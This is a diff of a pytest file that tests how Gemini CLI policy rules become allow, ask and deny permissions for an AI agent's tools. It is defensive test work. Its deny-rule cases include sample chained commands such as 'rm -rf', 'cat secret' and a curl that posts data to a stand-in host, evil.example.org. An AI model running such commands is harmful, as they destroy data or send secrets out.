@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from dataclasses import replace
 from typing import Any
 
 import pytest
@@ -10,11 +11,14 @@ import pytest
 from nbtools.core.errors import PolicyError
 from nbtools.core.vocabulary import VOCABULARY
 from nbtools.dialects import dialect, tool_named
+from nbtools.policy.decide import Judge
+from nbtools.policy.gemini_names import PATH_ARGUMENTS
 from nbtools.policy.gemini_policies import read_gemini_policies
 from nbtools.policy.gemini_settings import read_gemini_settings
 from nbtools.policy.imported import Imported
 from nbtools.policy.layers import Policy
 from nbtools.policy.rules import Rule
+from tests.policy.some_tools import SHELL
 
 POLICIES = """\
 [[rule]]
@@ -61,9 +65,15 @@ def named(name: str) -> str:
     return tool_named(name, dialect("gemini"))
 
 
+def toml(value: Any) -> str:
+    if isinstance(value, dict):
+        return f"{{ {', '.join(f'{name} = {toml(one)}' for name, one in value.items())} }}"
+    return json.dumps(value)
+
+
 def of(**keys: Any) -> Imported:
     rule = {"decision": "allow", "priority": 1, **keys}
-    lines = [f"{name} = {json.dumps(value)}" for name, value in rule.items()]
+    lines = [f"{name} = {toml(value)}" for name, value in rule.items()]
     return read_gemini_policies("\n".join(["[[rule]]", *lines]), named)
 
 
@@ -72,8 +82,15 @@ def test_a_whole_file() -> None:
     assert found.policy == Policy(
         "",
         allow=("shell(git status:*)", "shell(git log:*)", Rule("mcp__docs__*", annotations=(("readOnlyHint", True),))),
-        ask=(Rule("write", modes=("default", "auto_edit")), Rule("edit", modes=("default", "auto_edit")), "mcp__github__create_issue"),
-        deny=(Rule("shell", command="rm\\s+-rf", message="Move it to the trash instead."),),
+        ask=(
+            Rule("write", modes=("default", "auto_edit", "dont_ask")),
+            Rule("edit", modes=("default", "auto_edit", "dont_ask")),
+            "mcp__github__create_issue",
+        ),
+        deny=(
+            Rule("shell", command="rm\\s+-rf", message="Move it to the trash instead."),
+            Rule("shell", arguments='"command":"rm\\s+-rf', message="Move it to the trash instead."),
+        ),
     )
     assert found.not_carried == ("The safety checker for write_file does not run here; a hook can look at calls.",)
 
@@ -83,11 +100,11 @@ def test_a_whole_file() -> None:
     [
         ({"toolName": "read_file"}, "read"),
         ({"toolName": "search_file_content"}, "grep"),
-        ({"toolName": "*"}, "*"),
-        ({}, "*"),
+        ({"toolName": "*", "allowRedirection": True}, Rule("*", redirects=True)),
+        ({"toolName": "*", "mcpName": "*"}, "mcp__*"),
+        ({"toolName": "mcp_my_server_*"}, "mcp__my_server__*"),
         ({"toolName": "mcp_*"}, "mcp__*"),
         ({"toolName": "mcp_github_create_issue"}, "mcp__github__create_issue"),
-        ({"toolName": "mcp_github_list", "mcpName": "github"}, "mcp__github__list"),
         ({"mcpName": "docs"}, "mcp__docs__*"),
         ({"toolName": "run_shell_command", "commandPrefix": "npm run test"}, "shell(npm run test:*)"),
         ({"toolName": "run_shell_command", "commandPrefix": "ls *"}, Rule("shell", command=r"ls \*(?:[\s'\x22]|$)")),
@@ -95,7 +112,7 @@ def test_a_whole_file() -> None:
         ({"toolName": "run_shell_command", "allowRedirection": True}, Rule("shell", redirects=True)),
         ({"toolName": "write_file", "argsPattern": '"file_path":"docs/'}, "write(/docs/**)"),
         ({"toolName": "replace", "argsPattern": '"file_path":"/srv/docs/.*'}, "edit(//srv/docs/**)"),
-        ({"toolName": "write_file", "argsPattern": '"content":"draft'}, Rule("write", arguments='"content":"draft')),
+        ({"toolName": "run_shell_command"}, Rule("shell", command=r"\S")),
         ({"mcpName": "db", "toolName": "query", "argsPattern": '"sql":"select'}, Rule("mcp__db__query", arguments='"sql":"select')),
         ({"toolName": "discovered_tool_build"}, "discovered_tool_build"),
         ({"toolName": "glob", "denyMessage": "no"}, "glob"),
@@ -111,11 +128,11 @@ def test_rules_that_say_the_same(keys: dict[str, Any], rule: str | Rule) -> None
         ({"toolName": "google_web_search"}, "there is no tool google_web_search here"),
         ({"toolName": "read_file", "subagent": "helper"}, "for the agent helper"),
         ({"toolName": "read_file", "interactive": True}, "somebody can be asked"),
-        ({"toolName": "read_file", "decision": "deny", "interactive": False}, "denied anyway"),
+        ({"toolName": "read_file", "interactive": False}, "nobody can be asked"),
         ({"toolName": "read_file", "modes": ["swift"]}, "there is no mode swift"),
         ({"toolName": "read_file", "onlyOn": "friday"}, "onlyOn is not known here"),
-        ({"toolName": "replace", "argsPattern": '"old_string":"x'}, "its pattern looks at old_string"),
-        ({"toolName": "write_file", "argsPattern": '"file_path":".*\\\\.md"'}, ".. leads out of that"),
+        ({"toolName": "replace", "argsPattern": '"old_string":"x'}, "how the arguments are written"),
+        ({"toolName": "write_file", "argsPattern": '"file_path":".*\\\\.md"'}, "how the arguments are written"),
         ({"toolName": "read_file", "commandPrefix": "x"}, "only commands have a beginning"),
         ({"toolName": "run_shell_command", "commandRegex": "(a+)+"}, "can take for ever"),
         ({"toolName": "run_shell_command", "commandRegex": "("}, "is no regular expression"),
@@ -129,18 +146,144 @@ def test_what_cannot_be_said_is_told(keys: dict[str, Any], says: str) -> None:
     assert "priority 1" in found.not_carried[0]
 
 
+@pytest.mark.parametrize(
+    "keys",
+    [
+        {},
+        {"toolName": "*"},
+        {"toolName": "mcp__*"},
+        {"toolName": "mcp__github__create_issue"},
+        {"toolName": "mcp_*_search"},
+        {"toolName": "search", "mcpName": "*"},
+        {"toolName": "mcp_github_list", "mcpName": "github"},
+        {"toolName": "se*", "mcpName": "github"},
+        {"toolName": "mcp_docs_sea*"},
+        {"toolName": "mcp_docs_long...name"},
+        {"toolName": "w*"},
+        {"toolName": "discovered_tool_*"},
+        {"toolName": "shell"},
+        {"toolName": "Bash"},
+        {"toolName": "ShellTool"},
+        {"toolName": "read_file", "subagent": "helper"},
+        {"toolName": "read_file", "modes": ["default", "swift"]},
+        {"toolName": "run_shell_command", "commandPrefix": "git", "argsPattern": "status"},
+        {"toolName": "run_shell_command", "commandPrefix": "git", "commandRegex": "git status"},
+        {"toolName": "run_shell_command", "commandRegex": "git", "argsPattern": "status"},
+        {"toolName": "run_shell_command", "argsPattern": '"command":"git '},
+        {"toolName": "run_shell_command", "argsPattern": '"dir_path":"docs/'},
+        {"toolName": "run_shell_command", "commandPrefix": ""},
+        {"toolName": "run_shell_command", "commandPrefix": []},
+        {"toolName": "run_shell_command", "commandPrefix": ["", "ls"]},
+        {"toolName": "run_shell_command", "commandRegex": ""},
+        {"toolName": "run_shell_command", "argsPattern": ""},
+        {"toolName": "run_shell_command", "commandPrefix": "rm "},
+        {"toolName": "run_shell_command", "commandPrefix": "cd x && ls"},
+        {"toolName": "run_shell_command", "commandRegex": "git status$"},
+        {"toolName": "run_shell_command", "commandRegex": "git (?!push)"},
+        {"toolName": "run_shell_command", "commandRegex": "(?i)git status"},
+        {"toolName": "run_shell_command", "commandRegex": "git l++og"},
+        {"toolName": "query", "mcpName": "db", "argsPattern": "(?i)select"},
+        {"toolName": "run_shell_command", "commandRegex": 'git [^"]*log'},
+        {"toolName": "*", "argsPattern": '"file_path":"docs/'},
+        {"toolName": "write_file", "argsPattern": '"path":"docs/'},
+        {"toolName": "write_file", "argsPattern": '"content":"draft'},
+        {"toolName": "web_fetch", "argsPattern": "docs.example.org"},
+        {"toolName": "query", "mcpName": "db", "argsPattern": r'"sql":"\Aselect'},
+        {"toolName": "query", "mcpName": "db", "toolAnnotations": {}},
+        {"toolName": "query", "mcpName": "db", "toolAnnotations": {"destructiveHint": False}},
+        {"toolName": "query", "mcpName": "db", "toolAnnotations": {"title": "x"}},
+        {"toolName": "read_file", "onlyOn": "friday"},
+    ],
+)
+def test_an_allow_without_a_counterpart_is_left_out_and_named(keys: dict[str, Any]) -> None:
+    found = of(**keys)
+    assert found.policy == Policy()
+    assert len(found.not_carried) == 1
+    assert "priority 1" in found.not_carried[0]
+
+
+@pytest.mark.parametrize(
+    ("keys", "lists"),
+    [
+        ({}, {"deny": ("*",)}),
+        ({"toolName": "mcp__*"}, {"deny": ("mcp__*",)}),
+        ({"toolName": "mcp_*_search"}, {"deny": ("mcp_*_search", "mcp__*__search")}),
+        ({"toolName": "mcp_my_server_x"}, {"deny": ("mcp_my_server_x", "mcp__my__server_x", "mcp__my_server__x")}),
+        ({"toolName": "mcp_docs_long...name"}, {"deny": ("mcp_docs_long...name", "mcp__docs__long*name")}),
+        ({"toolName": "google_web_search"}, {"deny": ("google_web_search",)}),
+        ({"toolName": "read_file", "interactive": True}, {"deny": ("read",)}),
+        ({"toolName": "read_file", "interactive": False}, {"ask": ("read",)}),
+        ({"toolName": "read_file", "onlyOn": "friday"}, {"deny": ("read",)}),
+        ({"toolName": "read_file", "modes": ["yolo", "swift"]}, {"deny": ("read",)}),
+        ({"toolName": "read_file", "modes": ["default"]}, {"deny": (Rule("read", modes=("default", "dont_ask")),)}),
+        ({"mcpName": "db", "toolAnnotations": {"title": "x"}}, {"deny": ("mcp__db__*",)}),
+        ({"toolName": "write_file", "argsPattern": '"file_path":".*secret'}, {"deny": (Rule("write", arguments='"path":".*secret'),)}),
+        ({"toolName": "write_file", "argsPattern": "secret"}, {"deny": (Rule("write", arguments="secret"),)}),
+        ({"toolName": "replace", "argsPattern": '"old_string":"x'}, {"ask": ("edit",)}),
+        ({"toolName": "replace", "argsPattern": r'"\w+_path":"x'}, {"ask": ("edit",)}),
+        ({"toolName": "replace", "argsPattern": "("}, {"ask": ("edit",)}),
+        ({"toolName": "run_shell_command", "commandRegex": "(a+)+"}, {"ask": ("shell",)}),
+        ({"toolName": "run_shell_command", "commandRegex": r"rm\Z"}, {"ask": ("shell",)}),
+        ({"toolName": "run_shell_command", "commandPrefix": ""}, {"deny": ("shell",)}),
+        ({"toolName": "run_shell_command", "commandPrefix": []}, {"deny": ("shell",)}),
+    ],
+)
+def test_a_deny_is_never_narrower(keys: dict[str, Any], lists: dict[str, Any]) -> None:
+    assert of(decision="deny", **keys).policy == Policy(**lists)
+
+
+@pytest.mark.parametrize(
+    ("keys", "command"),
+    [
+        ({"commandPrefix": "rm -rf"}, "ls; rm  -rf x"),
+        ({"commandPrefix": "rm -rf "}, "ls; rm -rf x"),
+        ({"commandPrefix": "rm", "argsPattern": "never"}, "rm x"),
+        ({"commandPrefix": "never", "argsPattern": '"command":"rm'}, "ls; rm x"),
+        ({"commandPrefix": "! rm"}, "! rm x"),
+        ({"commandPrefix": 'echo "a'}, 'echo "a b"'),
+        ({"commandPrefix": "cd x && rm"}, "cd x && rm y"),
+        ({"commandRegex": "curl.*evil"}, "ls; curl -d '1\n2' evil.example.org"),
+        ({"commandRegex": "wget|curl"}, "ls && curl x"),
+        ({"commandRegex": r'echo \\\\"a'}, 'echo "a" b'),
+        ({"argsPattern": '"command":"rm'}, "ls; rm x"),
+        ({"argsPattern": '"command":"rm x"'}, "ls; rm x"),
+        ({"argsPattern": r'"command":"[^"]*secret'}, "ls; cat secret"),
+        ({"argsPattern": '"command":"never"|"command":"rm'}, "ls; rm x"),
+        ({"argsPattern": r"\"command\":\"rm"}, "ls; rm x"),
+        ({"argsPattern": "secret"}, "ls; cat secret"),
+        ({"toolName": "*", "commandPrefix": "rm"}, "ls; rm x"),
+        ({"toolName": "*", "argsPattern": '"command":"rm'}, "ls; rm x"),
+    ],
+)
+def test_a_command_that_was_denied_does_not_run(keys: dict[str, Any], command: str) -> None:
+    found = of(**{"toolName": "run_shell_command", "decision": "deny", **keys})
+    yolo = replace(found.policy, mode="yolo")
+    arguments = {"command": command}
+    assert Judge(yolo).decide(SHELL, SHELL.build(arguments), arguments).action != "allow"
+
+
+@pytest.mark.parametrize("redirects", [True, False])
+def test_a_redirect_is_allowed_only_where_the_rule_says_so(redirects: bool) -> None:
+    policy = of(toolName="run_shell_command", allowRedirection=redirects).policy
+    decided = {line: Judge(policy).decide(SHELL, SHELL.build({"command": line})).action for line in ("make; ls", "make > log")}
+    assert decided == {"make; ls": "allow", "make > log": "allow" if redirects else "ask"}
+
+
+def test_what_a_safety_checker_looks_at_is_not_allowed() -> None:
+    checker = '[[safety_checker]]\ntoolName = ["write_file"]\n[safety_checker.checker]\ntype="in-process"\nname="allowed-path"\n'
+    rule = '[[rule]]\ntoolName = ["write_file", "read_file"]\ndecision = "allow"\npriority = 1\n'
+    found = read_gemini_policies(rule + checker, named)
+    assert found.policy == Policy(allow=("read",))
+    assert len(found.not_carried) == 2
+
+
+def test_every_tool_of_gemini_is_one_of_ours() -> None:
+    assert {named(tool) for tool in PATH_ARGUMENTS} <= set(VOCABULARY)
+
+
 def test_a_question_only_for_people_is_a_question() -> None:
     found = of(toolName="read_file", decision="ask_user", interactive=True)
     assert found == Imported(Policy(ask=("read",)), ())
-
-
-def test_a_deny_may_go_by_how_a_path_is_written() -> None:
-    found = of(toolName="write_file", decision="deny", argsPattern='"file_path":".*secret')
-    assert found == Imported(Policy(deny=(Rule("write", arguments='"path":".*secret'),)), ())
-
-
-def test_a_deny_with_a_key_that_nobody_knows_holds() -> None:
-    assert of(toolName="read_file", decision="deny", onlyOn="friday").policy == Policy(deny=("read",))
 
 
 @pytest.mark.parametrize(
@@ -167,7 +310,30 @@ def test_an_allow_that_beat_a_deny_is_told(strong: str, weak: str, told: bool) -
 
 @pytest.mark.parametrize(
     "text",
-    ["[[rule", "rule = 3", "[[rule]]\ntoolName = 'x'", "[[rule]]\ndecision='maybe'\npriority=1", "[[rule]]\ndecision='deny'\npriority='x'"],
+    [
+        *(
+            f"[[rule]]\ndecision='allow'\n{keys}"
+            for keys in (
+                "priority=1000\ntoolName='glob'",
+                "priority=-1\ntoolName='glob'",
+                "priority=true\ntoolName='glob'",
+                "priority='5'\ntoolName='glob'",
+                "priority=1\ntoolName=[]",
+                "priority=1\ntoolName=''",
+                "priority=1\ntoolName=[1]",
+                "priority=1\ntoolName='*'\nmcpName=''",
+                "priority=1\ntoolName='glob'\nsubagent=''",
+                "priority=1\ntoolName='glob'\ninteractive='yes'",
+                "priority=1\ntoolName='glob'\nmodes='default'",
+                "priority=1\ntoolName='glob'\nargsPattern=['x']",
+            )
+        ),
+        "[[rule",
+        "rule = 3",
+        "[[rule]]\ntoolName = 'x'",
+        "[[rule]]\ndecision='maybe'\npriority=1",
+        "[[rule]]\ndecision='deny'\npriority='x'",
+    ],
 )
 def test_what_is_no_policy_file_is_an_error_in_one_line(text: str) -> None:
     with pytest.raises(PolicyError, match="policies") as raised:
@@ -209,6 +375,35 @@ def test_a_list_of_all_tools_denies_the_others() -> None:
     assert found.policy.allow == ("read", "shell(ls:*)")
     assert set(found.policy.deny) == set(VOCABULARY) - {"read", "shell"}
     assert "the others are asked" in found.not_carried[1]
+
+
+def test_settings_allow_no_more_than_they_did() -> None:
+    found = settings(
+        tools={"allowed": ["shell", "mcp__*", "*", "read_file(x)", "run_shell_command(rm )"], "exclude": ["write_file(x)", "mcp_a_b_c"]},
+        mcpServers={
+            "mine": {"trust": True, "excludeTools": ["drop"]},
+            "other": {"trust": True, "includeTools": ["list(all)", "get"]},
+            "rest": {"excludeTools": ["drop"]},
+        },
+    )
+    assert found.policy == Policy(
+        allow=("mcp__mine__*", "mcp__other__list", "mcp__other__get"),
+        deny=("write", "mcp_a_b_c", "mcp__a__b_c", "mcp__a_b__c", "mcp__mine__drop", "mcp__rest__drop"),
+    )
+    assert len(found.not_carried) == 6
+    assert settings(tools={"allowed": ["run_shell_command"]}).policy.allow == (Rule("shell", command=r"\S"),)
+
+
+def test_what_older_settings_forbid_is_forbidden() -> None:
+    found = settings(excludeTools=["write_file"], excludeMCPServers=["db"])
+    assert found.policy == Policy(deny=("write", "mcp__db__*"))
+    assert "write" in settings(coreTools=["read_file"]).policy.deny
+
+
+def test_an_expression_that_is_long_to_read_is_read_at_once() -> None:
+    found = of(toolName="write_file", decision="deny", argsPattern="a??" * 500 + "[")
+    assert found.policy == Policy(ask=("write",))
+    assert of(toolName="write_file", decision="deny", argsPattern="a??" * 500 + r"\Z").policy == Policy(ask=("write",))
 
 
 def test_the_mode_yolo_is_not_taken() -> None:
